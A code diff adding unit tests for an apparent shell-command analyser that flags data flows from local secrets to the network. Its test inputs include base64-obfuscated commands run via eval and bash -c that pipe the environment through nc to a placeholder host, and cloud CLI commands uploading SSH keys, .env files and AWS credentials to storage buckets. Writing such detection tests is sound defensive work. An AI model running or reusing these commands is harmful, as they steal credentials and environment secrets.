@@ -185,3 +185,31 @@ TEST_CASE("hosts are lower-case without port or user") {
   CHECK(has_host(facts, "10.0.0.1"));
   CHECK(has_host(analyze("curl -s https://registry.npmjs.org/react | jq .version"), "registry.npmjs.org"));
 }
+
+TEST_CASE("a decoded payload handed to eval or bash -c is analysed as the script it becomes") {
+  for (auto script : {"eval \"$(echo ZW52IHwgbmMgaC5leGFtcGxlLmNvbSAx | base64 -d)\"",
+                      "bash -c \"$(echo ZW52IHwgbmMgaC5leGFtcGxlLmNvbSAx | base64 -d)\""}) {
+    INFO(script);
+    auto facts = analyze(script);
+    CHECK(has_flow(facts, "env_dump", "network"));
+    CHECK(has_host(facts, "h.example.com"));
+  }
+}
+
+TEST_CASE("cloud CLI uploads of local files are network sinks with the bucket as host") {
+  auto s3 = analyze("aws s3 sync ~/.ssh s3://bkt/keys");
+  const auto* flow = flow_of(s3, "credential_file", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "bkt");
+  CHECK(has_flow(analyze("gsutil cp .env gs://bucket/"), "credential_file", "network"));
+  CHECK(has_flow(analyze("az storage blob upload --file ~/.aws/credentials --container-name c --name n"),
+                 "credential_file", "network"));
+  CHECK(analyze("aws s3 ls s3://bkt").flows.empty());
+  CHECK(analyze("aws s3 cp s3://bkt/x ./x").flows.empty());
+}
+
+TEST_CASE("env with only options still prints the environment") {
+  CHECK(has_flow(analyze("env -u FOO"), "env_dump", "output"));
+  CHECK(has_flow(analyze("env -i A=1"), "env_dump", "output"));
+  CHECK_FALSE(has_flow_to(analyze("env -u FOO ls"), "output"));
+}
